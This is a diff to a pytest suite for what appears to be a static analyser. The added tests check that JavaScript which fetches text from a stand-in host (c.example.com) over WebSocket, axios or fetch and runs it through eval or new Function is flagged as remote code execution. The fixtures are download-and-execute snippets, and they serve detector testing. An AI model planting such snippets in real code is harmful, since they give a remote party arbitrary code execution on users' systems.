@@ -377,3 +377,29 @@ def test_curl_options_env_is_not_sent() -> None:
 )
 def test_client_bindings(code: str) -> None:
     assert flows_of(code, "index.mjs").flows
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://c.example.com');\nws.on('message', (m) => new Function('require', m.toString())(require));",
+        "const axios = require('axios');\n(async () => { const r = await axios.post('https://c.example.com/a', {}); eval(r.data.model); })();",
+        "(async () => { const r = await fetch('https://c.example.com/s'); eval(await r.text()); })();",
+    ],
+    ids=["ws-message-to-function", "axios-response-to-eval", "fetch-text-to-eval"],
+)
+def test_code_compiled_from_network_data_is_a_remote_execution_flow(code: str) -> None:
+    flows = flows_of(code).flows
+    assert any(f.sink.executes and f.source.kind is Kind.REMOTE for f in flows), flows
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "(async () => { const r = await fetch('https://c.example.com/s'); const cfg = JSON.parse(await r.text()); console.log(cfg); })();",
+        "const axios = require('axios');\naxios.get('https://c.example.com').then(() => eval('1 + 1'));",
+    ],
+    ids=["fetch-json-parsed", "constant-eval-near-a-request"],
+)
+def test_network_data_that_is_not_compiled_is_no_remote_execution(code: str) -> None:
+    assert not [f for f in flows_of(code).flows if f.sink.executes]
